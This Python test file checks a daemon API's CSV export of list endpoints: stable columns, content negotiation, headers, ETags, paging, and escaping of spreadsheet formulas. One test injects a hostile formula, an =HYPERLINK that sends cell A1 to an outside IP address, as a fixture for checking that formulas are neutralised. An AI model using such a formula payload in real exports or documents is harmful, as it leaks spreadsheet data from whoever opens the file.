"""Lists as CSV: the same rows as the JSON, in columns that stay, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import urljoin

import pytest
from api_rows import entry, note, sample_blocks
from api_server import Cache, Client
from hypothesis import given
from hypothesis import strategies as st

from daemon.api import sheets
from daemon.api.formats import form
from daemon.api.problems import TYPE
from daemon.api.sheets import FORMULA, Sheet, table

LISTS = [
    "/rfcs", "/notes/notes", "/rfcs/alpha/branches", "/rfcs/alpha/pulls", "/rfcs/alpha/history", "/pulls", "/findings",
    "/findings?cleared=true", "/repositories", "/changes",
]  # fmt: skip


async def text(client: Client, path: str, **headers: str) -> tuple[Any, str]:
    async with client.session.get(f"{client.root}/api/v1{path}", headers=headers) as response:
        assert response.status == 200, await response.text()
        return response.headers, (await response.read()).decode()


def rows(said: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(said, newline="")))


def wanted(path: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}format=csv"


def looked_up(item: dict[str, Any], column: str) -> Any:
    outer, _, inner = column.partition(".")
    value = item.get(outer)
    return value.get(inner) if inner and isinstance(value, dict) else None if inner else value


@pytest.mark.parametrize("path", LISTS)
async def test_every_cell_is_the_member_of_its_name(client: Client, path: str) -> None:
    """Guards against columns that slip by one, and against members that never reach a spreadsheet."""
    items = (await client.get(path))["items"]
    _, said = await text(client, wanted(path))
    found = rows(said)
    assert len(found) == len(items)
    for item, row in zip(items, found, strict=True):
        for column, cell in row.items():
            if column == sheets.OTHERS:
                continue
            value = looked_up(item, column)
            expected = "" if value is None else value
            assert (cell if isinstance(expected, str) else json.loads(cell)) == expected, column
        told = {column.partition(".")[0] for column in row}
        assert set(item) <= told | {"fields"}, "every member has a column"


async def test_columns_are_the_same_whatever_the_rows_hold(client: Client, cache: Cache) -> None:
    """Pages are put together by people with copy and paste."""
    _, before = await text(client, "/notes/notes?format=csv")
    await cache.put(note("2026/a", weight=3, tags=["x", "y"], meta={"a": [1]}, odd="kept", stranger={"b": True}))
    _, after = await text(client, "/notes/notes?format=csv")
    assert before.splitlines() == after.splitlines()[:1]
    row = rows(after)[0]
    assert row["fields.weight"] == "3"
    assert json.loads(row["fields.tags"]) == ["x", "y"]
    assert json.loads(row["fields.meta"]) == {"a": [1]}
    assert json.loads(row[sheets.OTHERS]) == {"odd": "kept", "stranger": {"b": True}}
    assert (row["year"], row["name"], row["key"]) == ("2026", "a", "2026/a")


async def test_bodies_come_where_they_are_asked_for(client: Client) -> None:
    _, without = await text(client, "/rfcs?format=csv")
    _, beside = await text(client, "/rfcs?format=csv&include=body")
    assert "body" not in rows(without)[0]
    assert list(rows(beside)[0])[-1] == "body"
    assert rows(beside)[0]["body"] == "The whole of alpha."


async def test_what_a_spreadsheet_would_run_is_made_text(client: Client, cache: Cache) -> None:
    """Whoever may write to a repository could otherwise run a formula on the machine of whoever opens the list."""
    evil = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")"
    await cache.put(note("2026/=1", title=evil, level="-1", weight=-5, tags=["=1"], odd="@SUM(1)"))
    row = rows((await text(client, "/notes/notes?format=csv"))[1])[0]
    assert row["fields.title"] == f"'{evil}"
    assert row["name"] == "'=1"
    assert row["fields.level"] == "'-1"
    assert row["fields.weight"] == "-5", "a number is no formula"


@given(st.dictionaries(st.sampled_from("abc"), st.text() | st.integers() | st.lists(st.text()) | st.none()))
def test_any_value_comes_back_and_none_begins_a_formula(item: dict[str, Any]) -> None:
    raw = table(Sheet("any", ("a", "b", "c")), [item])
    (row,) = rows(raw.decode())
    for column, cell in row.items():
        value = item.get(column)
        if isinstance(value, str):
            clean = value.encode("utf-8", "replace").decode()
            assert cell in (clean, f"'{clean}")
            assert not cell.startswith(FORMULA)
        elif value is not None:
            assert json.loads(cell) == value
        else:
            assert cell == ""


def test_a_sheet_names_every_column_once() -> None:
    """A part of a key may be called as a member is."""
    for block in sample_blocks():
        for collection in block.collections:
            columns = sheets.of_entries(collection, body=True).columns
            assert len(columns) == len(set(columns))


@pytest.mark.parametrize(
    ("query", "accept", "chosen"),
    [
        ("", "", "json"), ("", "*/*", "json"), ("", "text/csv", "csv"), ("", "TEXT/CSV ; charset=utf-8", "csv"),
        ("", "text/html,application/xml;q=0.9,*/*;q=0.8", "json"), ("", "text/csv;q=0.5, application/json", "json"),
        ("", "text/csv, application/json;q=0.9", "csv"), ("", "application/json, text/csv", "json"),
        ("", "text/csv;q=0", "json"), ("", "text/csv;q=high", "json"), ("", "image/png", "json"),
        ("", "text/csv, */*;q=0.1", "csv"),
        ("csv", "application/json", "csv"), ("json", "text/csv", "json"),
    ],
)  # fmt: skip
def test_the_parameter_counts_before_the_header(query: str, accept: str, chosen: str) -> None:
    assert form([("format", query)] if query else [], accept) == chosen


@pytest.mark.parametrize("path", LISTS)
async def test_an_unknown_form_is_refused(client: Client, path: str) -> None:
    problem = await client.get(wanted(path).replace("csv", "xlsx"), status=400)
    assert problem["type"] == f"{TYPE}bad-value"
    assert problem["parameter"] == "format"


@pytest.mark.parametrize("path", ["/rfcs/alpha", "/status", "/repositories/acme/meta"])
async def test_what_is_no_list_has_no_form(client: Client, path: str) -> None:
    assert (await client.get(f"{path}?format=csv", status=400))["type"] == f"{TYPE}unknown-parameter"
    assert (await client.answer(path, headers={"Accept": "text/csv"}))[0].content_type == "application/json"


@pytest.mark.parametrize("path", LISTS)
async def test_headers_say_what_it_is_and_how_to_keep_it(client: Client, path: str) -> None:
    headers, _ = await text(client, path, Accept="text/csv")
    assert headers["Content-Type"] == "text/csv; header=present; charset=utf-8"
    assert headers["Content-Disposition"].startswith('attachment; filename="')
    assert headers["Content-Disposition"].endswith('.csv"')
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Vary"] == "Accept, Accept-Encoding, Authorization, Cookie", "JSON is not for who wants CSV"


async def test_a_tag_is_of_one_form(client: Client, cache: Cache) -> None:
    """Guards a client that changes its mind against 304 for the other form."""
    as_json, _ = await client.answer("/rfcs")
    headers, _ = await text(client, "/rfcs?format=csv")
    assert headers["ETag"] != as_json.headers["ETag"]
    await client.answer("/rfcs?format=csv", status=304, headers={"If-None-Match": headers["ETag"]})
    await client.answer("/rfcs", status=200, headers={"If-None-Match": headers["ETag"]})
    await cache.put(entry("beta", title="Better"))
    assert (await text(client, "/rfcs?format=csv"))[0]["ETag"] != headers["ETag"]


async def test_links_lead_through_all_pages(client: Client, cache: Cache) -> None:
    await cache.put(*(note(f"2026/{number:02}", weight=number % 3) for number in range(7)))
    found, address = [], f"{client.root}/api/v1/notes?format=csv&limit=3&sort=-weight"
    while address:
        async with client.session.get(address) as response:
            found += [row["key"] for row in rows(await response.text())]
            link = response.headers.get("Link", "")
            assert not link or link.endswith('; rel="next"')
            address = urljoin(address, link.partition(">")[0].removeprefix("<")) if link else ""
    whole = [row["key"] for row in rows((await text(client, "/notes?format=csv&sort=-weight"))[1])]
    assert found == whole
    assert len(found) == 7


async def test_changes_say_in_a_header_where_to_go_on(client: Client, cache: Cache) -> None:
    """A table has no room for `next`; a reader must not have to parse its last line."""
    headers, said = await text(client, "/changes?format=csv&limit=4")
    last = rows(said)[-1]["position"]
    assert headers["Forgeglass-Position"] == last == "e1:4"
    assert headers["Link"].endswith('after=e1:4>; rel="next"')
    headers, said = await text(client, "/changes?format=csv&after=e1:4&limit=200")
    assert "Link" not in headers, "whoever follows links must come to an end"
    assert headers["Forgeglass-Position"] == f"e1:{cache.store.sequence}"
